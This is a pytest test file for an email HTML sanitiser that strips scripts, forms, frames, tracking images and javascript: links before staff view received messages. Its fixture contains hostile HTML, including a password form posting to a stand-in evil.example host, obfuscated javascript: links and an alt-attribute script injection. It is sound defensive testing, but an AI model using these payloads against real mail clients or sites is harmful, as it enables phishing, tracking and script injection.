"""The HTML of a received message, as staff see it: formatting kept, anything active gone."""

from __future__ import annotations

import re

import pytest

from campaign.inbound.sanitise import FRAME_CSP, REMOTE_IMAGE_TEXT, safe_html

HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/s.css">
<title>Page title</title>
<style>body { background: url(https://evil.example/bg.png) }</style>
<script>document.location = "https://evil.example/"</script>
</head>
<body onload="steal()">
<p style="color: red" onclick="steal()" class="x" id="y">Dear <b>office</b>, <i>thank you</i>.</p>
<img src="https://tracker.example/open.gif" alt="Logo">
<img src="//tracker.example/p.gif"><img src="/relative.png">
<img srcset="https://tracker.example/a 1x">
<a href="javascript:alert(1)">js link</a>
<a href="JaVa&#x09;ScRiPt:alert(2)">obfuscated js link</a>
<a href="https://embassy.example/statement">our statement</a>
<form action="https://evil.example/collect"><input name="password">Sign in again</form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
<svg><image href="https://evil.example/svg.png"/></svg>
<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>
<!--[if mso]><img src="https://evil.example/mso.png"><![endif]-->
</body></html>"""


def _urls(html: str) -> list[str]:
    return re.findall(r'(?:src|href|action|data|background|srcset)="([^"]*)"', html)


def test_text_formatting_and_safe_links_are_kept() -> None:
    shown = safe_html(HOSTILE)

    assert "Dear <b>office</b>, <i>thank you</i>." in shown
    assert "<td>cell</td>" in shown
    assert (
        '<a href="https://embassy.example/statement" target="_blank" '
        'rel="noopener noreferrer nofollow">our statement</a>'
    ) in shown


def test_nothing_active_survives() -> None:
    shown = safe_html(HOSTILE).lower()

    for tag in ("<script", "<style", "<meta", "<base", "<link", "<form", "<input", "<iframe"):
        assert tag not in shown
    for tag in ("<object", "<embed", "<svg", "<title"):
        assert tag not in shown
    assert "javascript" not in shown
    assert "steal" not in shown  # no event handler and no script text
    assert "style=" not in shown and "onclick" not in shown and "onload" not in shown
    assert "page title" not in shown


def test_opening_it_would_fetch_nothing_remote() -> None:
    shown = safe_html(HOSTILE)

    # The only URL left is the link a person may choose to copy.
    assert _urls(shown) == ["https://embassy.example/statement"]
    assert "evil.example" not in shown and "tracker.example" not in shown


def test_a_remote_image_becomes_a_visible_notice() -> None:
    shown = safe_html('<p>Before<img src="https://tracker.example/open.gif" alt="Logo">After</p>')

    assert shown == (
        f'<p>Before<span class="blocked-image">{REMOTE_IMAGE_TEXT[:-1]}: Logo]</span>After</p>'
    )
    assert safe_html('<img src="http://x.example/a.png">') == (
        f'<span class="blocked-image">{REMOTE_IMAGE_TEXT}</span>'
    )


def test_an_inline_image_is_kept_and_an_inline_document_is_not() -> None:
    pixel = "data:image/png;base64,iVBORw0KGgo="

    assert safe_html(f'<img src="{pixel}" alt="chart">') == f'<img src="{pixel}" alt="chart">'
    assert "data:" not in safe_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "data:" not in safe_html('<a href="data:text/html,<script>x</script>">x</a>')


def test_an_alt_text_cannot_smuggle_markup() -> None:
    shown = safe_html('<img src="https://x.example/a" alt="&quot;><script>alert(1)</script>">')

    assert "<script" not in shown
    assert "&lt;script&gt;" in shown


@pytest.mark.parametrize("href", ["mailto:ambassador@embassy.example", "http://plain.example/"])
def test_mail_and_plain_http_links_are_kept(href: str) -> None:
    assert f'href="{href}"' in safe_html(f'<a href="{href}">x</a>')


def test_empty_html_stays_empty() -> None:
    assert safe_html("") == ""


def test_the_frame_policy_allows_no_network_source() -> None:
    directives = dict(part.strip().split(" ", 1) for part in FRAME_CSP.split(";"))

    assert directives["default-src"] == "'none'"
    assert directives["img-src"] == "data:"
    assert directives["form-action"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert "script-src" not in directives  # falls back to default-src 'none'
